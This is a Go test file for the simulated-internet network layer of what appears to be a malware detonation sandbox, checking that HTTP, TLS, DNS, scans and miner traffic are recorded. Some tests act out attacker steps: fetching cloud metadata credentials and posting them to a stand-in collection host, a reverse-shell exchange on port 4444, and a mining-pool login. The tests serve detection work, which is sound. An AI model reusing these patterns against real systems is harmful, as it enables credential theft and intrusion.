package network_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net/http"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"
	"gvisor.dev/gvisor/pkg/tcpip"
	"gvisor.dev/gvisor/pkg/tcpip/header"

	"github.com/detonaut/detonaut/chamber/network"
	"github.com/detonaut/detonaut/chamber/plan"
	"github.com/detonaut/detonaut/chamber/tape"
)

func get(t *testing.T, c *http.Client, url string) (status int, body string) {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, url, http.NoBody)
	if err != nil {
		t.Fatal(err)
	}
	response, err := c.Do(r)
	if err != nil {
		t.Fatalf("get %s: %v", url, err)
	}
	defer response.Body.Close()
	b, err := io.ReadAll(response.Body)
	if err != nil {
		t.Fatalf("get %s: %v", url, err)
	}
	return response.StatusCode, string(b)
}

// Every way to ask for a page is answered, and is one exchange on the tape
// with the name that was asked for.
func TestHTTP(t *testing.T) {
	for _, c := range []struct{ url, version, protocol string }{
		{"http://plain.example.com/a", "HTTP/1.1", "http"},
		{"https://secret.example.com/b", "HTTP/2.0", "http"},
		{"https://odd-port.example.com:8443/c", "HTTP/2.0", "http"},
		{"https://93.184.216.34/d", "HTTP/2.0", "http"},
		{"https://[2606:2800:220:1::5]/e", "HTTP/2.0", "http"},
	} {
		t.Run(c.url, func(t *testing.T) {
			s := newSubject(t, network.Options{})
			if status, body := get(t, s.client(), c.url); status != http.StatusOK || body == "" {
				t.Errorf("status %d, body %q", status, body)
			}
			s.close()
			exchanges := s.seen(tape.HTTPExchange)
			if len(exchanges) != 1 {
				t.Fatalf("%d exchanges, want 1", len(exchanges))
			}
			h := exchanges[0].HTTP
			if h.URL != c.url || h.Method != http.MethodGet || h.Version != c.version || h.Status != http.StatusOK || h.ResponseBody == nil {
				t.Errorf("exchange = %+v", h)
			}
			for _, e := range s.seen(tape.FlowEnded) {
				f := e.FlowEnd
				if e.Flow != exchanges[0].Flow {
					continue
				}
				if f.Protocol != c.protocol || f.TLS != strings.HasPrefix(c.url, "https:") || f.Sent == 0 || f.Received == 0 || f.Network != "tcp" {
					t.Errorf("flow = %+v", f)
				}
			}
		})
	}
}

// A body is hashed and its text kept.
func TestBody(t *testing.T) {
	s := newSubject(t, network.Options{})
	body := "user=x&data=" + strings.Repeat("y", 100_000)
	r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "https://drop.example.com/in", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	response, err := s.client().Do(r)
	if err != nil {
		t.Fatal(err)
	}
	response.Body.Close()
	s.close()
	sum := sha256.Sum256([]byte(body))
	got := s.seen(tape.HTTPExchange)[0].HTTP.Body
	if got == nil || got.Size != int64(len(body)) || got.SHA256 != hex.EncodeToString(sum[:]) || !strings.HasPrefix(got.Text, "user=x") {
		t.Errorf("body = %+v", got)
	}
}

// A client that does not trust the CA is an event of its own.
func TestRejected(t *testing.T) {
	s := newSubject(t, network.Options{})
	c := s.client()
	c.Transport.(*http.Transport).TLSClientConfig = &tls.Config{MaxVersion: tls.VersionTLS12}
	r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "https://pinned.example.com/", http.NoBody)
	if err != nil {
		t.Fatal(err)
	}
	if response, err := c.Do(r); err == nil {
		response.Body.Close()
		t.Fatal("a client without the CA trusts it")
	}
	wait(t, func() bool { return len(s.seen(tape.TLSHandshake)) > 0 })
	shakes := s.seen(tape.TLSHandshake)
	if len(shakes) == 0 {
		t.Fatal("no handshake on the tape")
	}
	if h := shakes[0].TLS; !h.Rejected || h.SNI != "pinned.example.com" || h.JA4 == "" || !slices.Contains(h.ALPN, "h2") {
		t.Errorf("handshake = %+v", h)
	}
}

// Names are answered alike by every transport, and lead back.
func TestNames(t *testing.T) {
	s := newSubject(t, network.Options{})
	found, err := s.resolver().LookupNetIP(t.Context(), "ip", "www.example.org")
	if err != nil {
		t.Fatal(err)
	}
	names, err := s.resolver().LookupAddr(t.Context(), found[0].Unmap().String())
	if err != nil || !slices.Contains(names, "www.example.org.") {
		t.Errorf("the address leads back to %v, %v", names, err)
	}
	if _, err := s.resolver().LookupHost(t.Context(), "xkqjzvwpqhgtrbnm.com"); err == nil {
		t.Error("a random name exists")
	}
	s.close()
	if n := len(s.seen(tape.DNSAnswer)); n < 4 {
		t.Errorf("%d answers on the tape, want those to A, AAAA, PTR and the random name", n)
	}
}

// A client that says nothing is asked, and a shell at its end answers.
func TestReverseShell(t *testing.T) {
	s := newSubject(t, network.Options{})
	c, err := s.dial(t.Context(), "tcp", "198.51.100.7:4444")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	line, err := bufio.NewReader(c).ReadString('\n')
	if err != nil || line != "id\n" {
		t.Fatalf("asked %q, %v", line, err)
	}
	fmt.Fprint(c, "uid=0(root) gid=0(root) groups=0(root)\n")
	c.Close()
	wait(t, func() bool { return len(s.seen(tape.MessageReceive)) > 0 })
	if m := s.seen(tape.MessageReceive)[0].Message; m.Protocol != "shell" || m.Verb != "answer" {
		t.Errorf("message = %+v", m)
	}
}

// wait waits until done; the test's own time limit ends it otherwise.
func wait(t *testing.T, done func() bool) {
	t.Helper()
	for tick := time.NewTicker(5 * time.Millisecond); !done(); {
		select {
		case <-tick.C:
		case <-t.Context().Done():
			t.Fatal("it did not happen")
		}
	}
}

// A miner's login is recognised on a port that says nothing.
func TestStratum(t *testing.T) {
	s := newSubject(t, network.Options{})
	c, err := s.dial(t.Context(), "tcp", "pool.example.com:443")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintln(c, `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"WALLET","pass":"x","agent":"worker/1.0"}}`)
	if line, err := bufio.NewReader(c).ReadString('\n'); err != nil || !strings.Contains(line, `"job"`) {
		t.Errorf("answer = %q, %v", line, err)
	}
	c.Close()
	wait(t, func() bool { return len(s.seen(tape.MessageReceive)) > 0 })
	if m := s.seen(tape.MessageReceive)[0].Message; m.Protocol != "stratum" || m.Verb != "login" {
		t.Errorf("message = %+v", m)
	}
}

// Whoever scans does not see a world of open ports.
func TestScan(t *testing.T) {
	s := newSubject(t, network.Options{})
	open := 0
	for port := 1000; port < 1100; port++ {
		if c, err := s.dial(t.Context(), "tcp", fmt.Sprintf("203.0.113.9:%d", port)); err == nil {
			open++
			c.Close()
		}
	}
	if open == 0 || open > 20 {
		t.Errorf("%d of 100 ports are open", open)
	}
	s.close()
	refused := 0
	for _, e := range s.seen(tape.FlowEnded) {
		if e.FlowEnd.Reason == "scan" {
			refused++
		}
	}
	if refused != 100-open {
		t.Errorf("%d flows were refused as a scan, want %d", refused, 100-open)
	}
}

// A planted credential that comes back is an event, whatever it is wrapped in.
func TestBait(t *testing.T) {
	s := newSubject(t, network.Options{})
	c := s.client()
	const role = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
	_, name := get(t, c, role)
	_, credentials := get(t, c, role+strings.TrimSpace(name))
	r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "https://collect.example.net/", bytes.NewBufferString("x="+credentials))
	if err != nil {
		t.Fatal(err)
	}
	response, err := c.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	response.Body.Close()
	s.close()
	if len(s.seen(tape.BaitSent)) == 0 {
		t.Errorf("no bait was seen in %q", credentials)
	}
	for _, e := range s.seen(tape.BaitSent) {
		if e.Bait.Place != "http-body" || e.Bait.Home {
			t.Errorf("bait = %+v", e.Bait)
		}
	}
}

// Canned answers come first.
func TestCanned(t *testing.T) {
	s := newSubject(t, network.Options{Plan: plan.Internet{Answers: []plan.Answer{{
		Host: "qzxkvjwqpt.example", Path: "/x*", Status: http.StatusTeapot, Body: "mine",
	}}}})
	if status, body := get(t, s.client(), "https://qzxkvjwqpt.example/xyz"); status != http.StatusTeapot || body != "mine" {
		t.Errorf("answer = %d %q", status, body)
	}
}

// 10,000 connections that say nothing are held, or refused with the reason.
func TestManyFlows(t *testing.T) {
	s := newSubject(t, network.Options{Plan: plan.Internet{NoProbe: true}})
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	host := "many.example.com:80"
	refused := 0
	for range 10_000 {
		c, err := s.dial(ctx, "tcp", host)
		if err != nil {
			refused++
			continue
		}
		t.Cleanup(func() { c.Close() })
	}
	if ctx.Err() != nil {
		t.Fatal("it took too long")
	}
	if refused == 0 {
		t.Error("all were accepted: nothing bounds them")
	}
	if bounds := s.close(); !slices.Contains(bounds, "flows") {
		t.Errorf("bounds = %v, want flows among them", bounds)
	}
}

// What nobody understands ends a flow, and no other.
func TestMalformed(t *testing.T) {
	for name, text := range map[string]string{
		"tls":          "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00",
		"half a hello": "\x16\x03\x01\x40\x00\x01\x00",
		"http2":        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\xff\xff\xff\xff\xff\xff\xff\xff\xff",
		"http":         "GET / HTTP/1.1\r\nHost: \x00\r\n" + strings.Repeat("A: B\r\n", 10_000),
		"stratum":      `{"id":{},"method":["login"],"params":"` + strings.Repeat("x", 20_000) + "\n",
		"nothing":      "\x00",
	} {
		t.Run(name, func(t *testing.T) {
			s := newSubject(t, network.Options{Plan: plan.Internet{NoProbe: true}})
			c, err := s.dial(t.Context(), "tcp", "198.51.100.9:9999")
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprint(c, text)
			c.Close()
			if status, _ := get(t, s.client(), "http://after.example.com/"); status != http.StatusOK {
				t.Errorf("status %d afterwards", status)
			}
			if bounds := s.close(); slices.Contains(bounds, "servers") {
				t.Error("a server failed")
			}
			s.flow(9999)
		})
	}
}

// Closing an internet that is in use says so of its connections.
func TestClose(t *testing.T) {
	s := newSubject(t, network.Options{})
	c, err := s.dial(t.Context(), "tcp", "198.51.100.9:9999")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := bufio.NewReader(c).ReadString('\n'); err != nil { // the probe: it is served
		t.Fatal(err)
	}
	s.close()
	if f := s.flow(9999); f.End != "open" {
		t.Errorf("flow = %+v", f)
	}
}

// An internet closes while it is in use.
func TestCloseInUse(t *testing.T) {
	answer := plan.Answer{Host: "load.example.com", Body: strings.Repeat("x", 100_000)}
	for range 10 {
		s := newSubject(t, network.Options{Plan: plan.Internet{Answers: []plan.Answer{answer}}})
		c := s.client()
		ctx, cancel := context.WithCancel(t.Context())
		var busy sync.WaitGroup
		answered := make(chan struct{}, 32)
		for range cap(answered) {
			busy.Go(func() {
				for fetch(ctx, c, "http://load.example.com/") == nil {
					select {
					case answered <- struct{}{}:
					default:
					}
				}
			})
		}
		for range cap(answered) {
			<-answered
		}
		s.close()
		cancel()
		busy.Wait()
	}
}

// An internet closes while connections begin that nobody means to go on with.
func TestCloseWhileConnectionsBegin(t *testing.T) {
	// With more threads than processors, any of them may be late.
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(4 * runtime.NumCPU()))
	for round := range 60 {
		s := newSubject(t, network.Options{})
		begun := make(chan struct{})
		var busy sync.WaitGroup
		busy.Go(func() {
			for i := range 20_000 {
				if i == 8*round {
					close(begun)
				}
				err := unix.Send(int(s.far.Fd()), beginning(i), 0)
				if err != nil && !errors.Is(err, unix.ENOBUFS) {
					return // it has closed
				}
			}
		})
		<-begun
		closed := make(chan struct{})
		go func() {
			defer close(closed)
			s.close()
		}()
		select {
		case <-closed:
		case <-time.After(30 * time.Second):
			t.Fatal("it does not close")
		}
		busy.Wait()
	}
}

// beginning is the frame in which the i-th connection begins, each from another
// address.
func beginning(i int) []byte {
	const offload = 10 // struct virtio_net_hdr, with which each frame begins
	frame := make([]byte, offload+header.EthernetMinimumSize+header.IPv4MinimumSize+header.TCPMinimumSize)
	b := frame[offload:]
	header.Ethernet(b).Encode(&header.EthernetFields{SrcAddr: "\x02\x42\xac\x11\x00\x02", DstAddr: "\x02\x42\x5b\x0e\x1c\x9d", Type: header.IPv4ProtocolNumber})
	ip := header.IPv4(b[header.EthernetMinimumSize:])
	ip.Encode(&header.IPv4Fields{
		TotalLength: uint16(len(ip)), TTL: 64, Protocol: uint8(header.TCPProtocolNumber),
		SrcAddr: tcpip.AddrFrom4([4]byte{10, 1, byte(i >> 8), byte(i)}), DstAddr: tcpip.AddrFrom4([4]byte{203, 0, 113, 80}),
	})
	ip.SetChecksum(^ip.CalculateChecksum())
	header.TCP(ip.Payload()).Encode(&header.TCPFields{
		SrcPort: uint16(1024 + i%60_000), DstPort: 80, SeqNum: 1, DataOffset: header.TCPMinimumSize, Flags: header.TCPFlagSyn, WindowSize: 1 << 15,
	})
	return frame
}

func fetch(ctx context.Context, c *http.Client, url string) error {
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, url, http.NoBody)
	if err != nil {
		return err
	}
	response, err := c.Do(r)
	if err != nil {
		return err
	}
	defer response.Body.Close()
	_, err = io.Copy(io.Discard, response.Body)
	return err
}
